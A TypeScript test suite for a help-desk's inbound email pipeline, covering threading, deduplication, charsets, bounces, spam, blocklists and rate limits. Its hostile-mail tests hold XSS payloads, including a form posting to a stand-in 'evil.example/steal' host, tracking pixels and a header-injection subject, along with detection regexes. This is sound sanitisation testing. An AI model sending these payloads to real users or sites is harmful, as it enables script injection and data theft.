import assert from 'node:assert/strict';
import { after, describe, it } from 'node:test';
import { call, createTestApp, type TestWorkspace } from '../../../test/support/app.js';
import { postMail, rawMail, smtpClient } from '../../../test/support/mail.js';
import { startMailListener } from './smtp-listener.js';

const t = await createTestApp({ start: '2026-03-02T10:00:00Z' });
const listener = await startMailListener(t.deps, { port: 0, host: '127.0.0.1' });
after(() => listener.close());

let n = 0;
async function setup() {
  const ws = await t.workspace();
  const address = `support-${++n}@acme.test`;
  const created = await call(t.app, ws.owner, 'POST', '/api/v1/mailboxes', { address, name: 'Support' });
  assert.equal(created.statusCode, 201, created.body);
  const mailbox = { id: created.json().mailbox.id as number, secret: created.json().inboundSecret as string };
  const post = async (mail: Parameters<typeof rawMail>[0]) => {
    const res = await postMail(t.app, mailbox, rawMail({ to: address, ...mail }));
    assert.ok(res.statusCode < 300, res.body);
    return res.json() as { result: string; conversationId: number | null; messageId: number | null };
  };
  return { ws, address, mailbox, post };
}

async function messagesOf(ws: TestWorkspace, conversationId: number) {
  const res = await call(t.app, ws.owner, 'GET', `/api/v1/conversations/${conversationId}/messages`);
  return res.json().items as {
    body: string;
    bodyHtml: string | null;
    attachments: unknown[];
    email: { fullText: string | null } | null;
  }[];
}

describe('threading on a corpus of real header shapes', () => {
  it('Gmail: References and In-Reply-To', async () => {
    const { post } = await setup();
    const a = await post({
      from: 'Ann <ann@gmail.example>',
      subject: 'Broken lamp',
      messageId: '<CAF1=abc@mail.gmail.com>',
    });
    const b = await post({
      from: 'Ann <ann@gmail.example>',
      subject: 'Re: Broken lamp',
      headers: { 'In-Reply-To': '<CAF1=abc@mail.gmail.com>', References: '<CAF1=abc@mail.gmail.com>' },
    });
    assert.equal(b.conversationId, a.conversationId);
  });

  it('Outlook: Thread-Index without References, AW:/SV: prefixes', async () => {
    const { post } = await setup();
    const root = Buffer.alloc(22, 7).toString('base64');
    const reply = Buffer.concat([Buffer.alloc(22, 7), Buffer.alloc(5, 1)]).toString('base64');
    const a = await post({
      from: 'bob@outlook.example',
      subject: 'Rechnung falsch',
      headers: { 'Thread-Index': root },
    });
    const b = await post({
      from: 'bob@outlook.example',
      subject: 'AW: Rechnung falsch',
      headers: { 'Thread-Index': reply },
    });
    assert.equal(b.conversationId, a.conversationId);
    // The same Thread-Index from someone else is not enough.
    const c = await post({
      from: 'eve@outlook.example',
      subject: 'SV: Rechnung falsch',
      headers: { 'Thread-Index': reply },
    });
    assert.notEqual(c.conversationId, a.conversationId);
  });

  it('Apple Mail: the references chain, newest first wins; a merged conversation continues in its target', async () => {
    const { ws, post } = await setup();
    const a = await post({ from: 'cy@icloud.example', subject: 'One', messageId: '<A1@icloud.example>' });
    const b = await post({ from: 'cy@icloud.example', subject: 'Two', messageId: '<B1@icloud.example>' });
    const merged = await call(t.app, ws.owner, 'POST', `/api/v1/conversations/${b.conversationId}/merge`, {
      intoId: a.conversationId,
    });
    assert.equal(merged.statusCode, 200, merged.body);
    const c = await post({
      from: 'cy@icloud.example',
      subject: 'Re: Two',
      headers: { References: '<unknown@x> <B1@icloud.example>' },
    });
    assert.equal(c.conversationId, a.conversationId);
  });

  it('the [#id] subject token joins only for the conversation’s own customer; a new subject is new', async () => {
    const { post } = await setup();
    const a = await post({ from: 'dee@example.org', subject: 'Where is it' });
    const same = await post({
      from: 'dee@example.org',
      subject: `RE: Fwd: Where is it [#${a.conversationId}]`,
    });
    assert.equal(same.conversationId, a.conversationId);
    const stranger = await post({ from: 'mallory@example.net', subject: `Re: [#${a.conversationId}]` });
    assert.notEqual(stranger.conversationId, a.conversationId);
    const fresh = await post({ from: 'dee@example.org', subject: 'Something else entirely' });
    assert.notEqual(fresh.conversationId, a.conversationId);
  });

  it('a reply from an address the customer copied joins the conversation', async () => {
    const { post } = await setup();
    const a = await post({
      from: 'erin@example.org',
      subject: 'Team order',
      messageId: '<erin-1@example.org>',
      headers: { Cc: 'frank@example.org' },
    });
    const b = await post({
      from: 'frank@example.org',
      subject: 'Re: Team order',
      headers: { 'In-Reply-To': '<erin-1@example.org>' },
    });
    assert.equal(b.conversationId, a.conversationId);
  });

  it('a missing Message-ID is deduplicated on the content; the same Message-ID twice is stored once', async () => {
    const { ws, post } = await setup();
    const first = await post({
      from: 'gus@example.org',
      subject: 'No id',
      body: 'same text',
      messageId: null,
    });
    const again = await post({
      from: 'gus@example.org',
      subject: 'No id',
      body: 'same text',
      messageId: null,
    });
    assert.equal(first.result, 'stored');
    assert.equal(again.result, 'duplicate');
    assert.equal(again.messageId, first.messageId);
    const x = await post({ from: 'gus@example.org', subject: 'With id', messageId: '<dup@example.org>' });
    const y = await post({ from: 'gus@example.org', subject: 'With id', messageId: '<dup@example.org>' });
    assert.equal(y.result, 'duplicate');
    assert.equal((await messagesOf(ws, x.conversationId!)).length, 1);
  });
});

const XSS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)">click</a>',
  '<form action="https://evil.example/steal"><input name=p></form>',
  '<img src="https://tracker.example/pixel.gif" width=1 height=1>',
  '<svg onload=alert(1)>',
  '<iframe src="https://evil.example"></iframe>',
  '<div style="background:url(https://tracker.example/x)">styled</div>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
];

describe('hostile mail', () => {
  it('XSS payloads in HTML mail never reach storage', async () => {
    const { ws, post } = await setup();
    const html = `<p>Hello</p>${XSS.join('\n')}`;
    const res = await post({
      from: 'hax@example.net',
      subject: 'Hi',
      headers: { 'Content-Type': 'text/html; charset=utf-8' },
      body: html,
    });
    const [m] = await messagesOf(ws, res.conversationId!);
    const stored = m!.bodyHtml ?? '';
    assert.match(stored, /Hello/);
    for (const bad of [
      /<script/i,
      /onerror/i,
      /onload/i,
      /javascript:/i,
      /<form/i,
      /<iframe/i,
      /tracker\.example/,
      /style=/i,
      /data:text/i,
      /<svg/i,
    ])
      assert.doesNotMatch(stored, bad);
  });

  it('a wrong or unusual charset is decoded, not mangled', async () => {
    const { ws, post } = await setup();
    const res = await post({
      from: 'ida@example.de',
      subject: '=?ISO-8859-1?Q?Gr=FC=DFe?=',
      headers: { 'Content-Type': 'text/plain; charset=ISO-8859-1', 'Content-Transfer-Encoding': '8bit' },
      bodyBytes: Buffer.from('Grüße aus Köln', 'latin1'),
    });
    const conversation = await call(t.app, ws.owner, 'GET', `/api/v1/conversations/${res.conversationId}`);
    assert.equal(conversation.json().conversation.subject, 'Grüße');
    const [m] = await messagesOf(ws, res.conversationId!);
    assert.equal(m!.body, 'Grüße aus Köln');
  });

  it('broken MIME is refused with a clear 422, and a mail with no sender too', async () => {
    const { mailbox } = await setup();
    const broken = Buffer.from('this is not a mail at all\u0000\u0001');
    const res = await postMail(t.app, mailbox, broken);
    assert.equal(res.statusCode, 422, res.body);
    assert.match(res.json().error.code, /INVALID_EMAIL/);
  });

  it('an injected header in the subject stays in the subject', async () => {
    const { ws, post } = await setup();
    const res = await post({
      from: 'jo@example.org',
      subject: '=?UTF-8?Q?Hi=0D=0ABcc:_victim@example.org?=',
    });
    const { conversation } = (
      await call(t.app, ws.owner, 'GET', `/api/v1/conversations/${res.conversationId}`)
    ).json();
    assert.match(conversation.subject, /victim/);
    assert.doesNotMatch(conversation.subject, /[\r\n]/);
  });

  it('a mail over the size limit: 552 over SMTP, 413 over HTTP; the server stays up', async () => {
    const { address, mailbox } = await setup();
    const big = Buffer.alloc(27 * 1024 * 1024, 'a').toString('base64');
    const client = smtpClient(listener.port);
    await assert.rejects(
      client.sendMail({
        from: 'kim@example.org',
        to: address,
        subject: 'Big',
        text: 'see attachment',
        attachments: [{ filename: 'big.bin', content: big }],
      }),
      (err: { responseCode?: number }) => err.responseCode === 552,
    );
    const http = await postMail(t.app, mailbox, Buffer.alloc(30 * 1024 * 1024, 'a'));
    assert.equal(http.statusCode, 413);
    const ok = await client.sendMail({
      from: 'kim@example.org',
      to: address,
      subject: 'Small',
      text: 'still here?',
    });
    assert.match(ok.response, /^250/);
    client.close();
  });

  it('attachments and inline images are stored; the inline image points to the stored file', async () => {
    const { ws, address } = await setup();
    const client = smtpClient(listener.port);
    await client.sendMail({
      from: 'lee@example.org',
      to: address,
      subject: 'Photo of the damage',
      html: '<p>See:</p><img src="cid:dmg@x">',
      attachments: [
        {
          filename: 'damage.png',
          content: Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'),
          cid: 'dmg@x',
        },
        { filename: 'receipt.txt', content: 'paid 20 EUR' },
      ],
    });
    client.close();
    const list = (await call(t.app, ws.owner, 'GET', '/api/v1/conversations?status=new')).json();
    const c = list.items.find((x: { subject: string }) => x.subject === 'Photo of the damage');
    const [m] = await messagesOf(ws, c.id);
    assert.equal(m!.attachments.length, 2);
    assert.match(m!.bodyHtml ?? '', /\/api\/v1\/attachments\/\d+/);
  });
});

describe('loops and noise', () => {
  it('no acknowledgement to automatic mail; bounces land on the message they bounce', async () => {
    const { ws, post } = await setup();
    const auto = await post({
      from: 'robot@example.org',
      subject: 'Out of office',
      headers: { 'Auto-Submitted': 'auto-replied' },
    });
    const bulk = await post({
      from: 'news@example.org',
      subject: 'Newsletter',
      headers: { Precedence: 'bulk' },
    });
    assert.equal(auto.result, 'stored');
    assert.equal(bulk.result, 'stored');
    const [m] = await messagesOf(ws, auto.conversationId!);
    assert.ok(m, 'kept, but marked automatic (no acknowledgement goes to it)');

    // A reply of ours, then its bounce.
    const real = await post({ from: 'mo@example.org', subject: 'Help', messageId: '<mo-1@example.org>' });
    const reply = await call(
      t.app,
      ws.owner,
      'POST',
      `/api/v1/conversations/${real.conversationId}/messages`,
      {
        direction: 'outbound',
        body: 'Here you go',
      },
    );
    const sentId = `<steward.${ws.id}.${reply.json().message.id}@acme.test>`;
    await t.deps.db.execute(
      `update messages set external_id = '${sentId}', delivery_state = 'sent' where id = ${reply.json().message.id}`,
    );
    const bounce = await post({
      from: 'MAILER-DAEMON@mx.example.org',
      subject: 'Undelivered Mail Returned to Sender',
      headers: { 'Content-Type': 'multipart/report; report-type=delivery-status; boundary="b1"' },
      body: [
        '--b1',
        'Content-Type: text/plain',
        '',
        'Your message could not be delivered.',
        '--b1',
        'Content-Type: message/delivery-status',
        '',
        'Final-Recipient: rfc822; mo@example.org',
        'Status: 5.1.1',
        'Diagnostic-Code: smtp; 550 5.1.1 user unknown',
        '--b1',
        'Content-Type: text/rfc822-headers',
        '',
        `Message-ID: ${sentId}`,
        'Subject: Re: Help',
        '--b1--',
      ].join('\n'),
    });
    assert.equal(bounce.result, 'bounce');
    const msgs = (
      await call(t.app, ws.owner, 'GET', `/api/v1/conversations/${real.conversationId}/messages`)
    ).json().items;
    const out = msgs.find((x: { direction: string }) => x.direction === 'outbound');
    assert.equal(out.delivery.state, 'bounced');
    assert.match(out.delivery.detail, /user unknown/);
  });

  it('spam goes to the spam view, not the inbox; released, it becomes a conversation', async () => {
    const { ws, post } = await setup();
    const spam = await post({
      from: 'pills@spam.example',
      subject: 'Cheap pills',
      headers: { 'X-Spam-Flag': 'YES' },
    });
    assert.equal(spam.result, 'spam');
    assert.equal(spam.conversationId, null);
    const list = (await call(t.app, ws.owner, 'GET', '/api/v1/email/spam')).json().items;
    assert.equal(list.length, 1);
    assert.equal(list[0].from, 'pills@spam.example');
    const released = await call(t.app, ws.owner, 'POST', `/api/v1/email/spam/${list[0].id}/release`);
    assert.equal(released.json().result, 'stored');
    assert.equal((await call(t.app, ws.owner, 'GET', '/api/v1/email/spam')).json().items.length, 0);
  });

  it('blocked senders are refused (550 / 422); a runaway sender is slowed down (451 / 429)', async () => {
    const { ws, address, mailbox } = await setup();
    await call(t.app, ws.owner, 'POST', '/api/v1/email/blocked-senders', { pattern: '@blocked.example' });
    const refused = await postMail(
      t.app,
      mailbox,
      rawMail({ from: 'a@blocked.example', to: address, subject: 'x' }),
    );
    assert.equal(refused.statusCode, 422);
    assert.equal(refused.json().error.code, 'SENDER_REFUSED');
    const client = smtpClient(listener.port);
    await assert.rejects(
      client.sendMail({ from: 'b@blocked.example', to: address, subject: 'x', text: 'x' }),
      (err: { responseCode?: number }) => err.responseCode === 550,
    );
    // The blocklist is kept for a few seconds, but a change made here counts from the next mail on.
    const send = (from: string, subject: string) =>
      postMail(t.app, mailbox, rawMail({ from, to: address, subject }));
    assert.equal((await send('pat@later.example', 'before')).statusCode, 201);
    const block = await call(t.app, ws.owner, 'POST', '/api/v1/email/blocked-senders', {
      pattern: 'Pat@Later.example',
    });
    assert.equal(block.statusCode, 201, block.body);
    assert.equal((await send('pat@later.example', 'blocked now')).statusCode, 422);
    assert.equal((await send('kim@later.example', 'another sender')).statusCode, 201);
    const unblock = await call(t.app, ws.owner, 'DELETE', `/api/v1/email/blocked-senders/${block.json().id}`);
    assert.equal(unblock.statusCode, 204);
    assert.equal((await send('pat@later.example', 'welcome back')).statusCode, 201);
    let limited: number | undefined;
    for (let i = 0; i < 70 && limited === undefined; i++) {
      const res = await postMail(
        t.app,
        mailbox,
        rawMail({ from: 'flood@example.org', to: address, subject: `n${i}` }),
      );
      if (res.statusCode !== 201) limited = res.statusCode;
    }
    assert.equal(limited, 429);
    await assert.rejects(
      client.sendMail({ from: 'flood@example.org', to: address, subject: 'more', text: 'x' }),
      (err: { responseCode?: number }) => err.responseCode === 451,
    );
    client.close();
  });

  it('the HTTP intake needs the mailbox secret; another mailbox’s secret is refused the same way', async () => {
    const a = await setup();
    const b = await setup();
    const wrong = await postMail(
      t.app,
      { id: a.mailbox.id, secret: b.mailbox.secret },
      rawMail({ from: 'x@example.org', subject: 'x' }),
    );
    assert.equal(wrong.statusCode, 401);
    const missing = await postMail(
      t.app,
      { id: 999999, secret: a.mailbox.secret },
      rawMail({ from: 'x@example.org', subject: 'x' }),
    );
    assert.equal(missing.statusCode, 401);
  });
});

describe('support addresses', () => {
  it('a new address without a sender name sends as the workspace; an empty name is refused', async () => {
    const ws = await t.workspace();
    const workspace = (await call(t.app, ws.owner, 'GET', '/api/v1/workspace')).json();
    const created = await call(t.app, ws.owner, 'POST', '/api/v1/mailboxes', {
      address: `plain-${++n}@acme.test`,
    });
    assert.equal(created.statusCode, 201, created.body);
    assert.equal(created.json().mailbox.name, workspace.name);
    const empty = await call(t.app, ws.owner, 'POST', '/api/v1/mailboxes', {
      address: `empty-${++n}@acme.test`,
      name: '  ',
    });
    assert.equal(empty.statusCode, 400);
    const renamed = await call(t.app, ws.owner, 'PATCH', `/api/v1/mailboxes/${created.json().mailbox.id}`, {
      name: 'Acme Help',
    });
    assert.equal(renamed.statusCode, 200, renamed.body);
    assert.equal(renamed.json().name, 'Acme Help');
  });
});
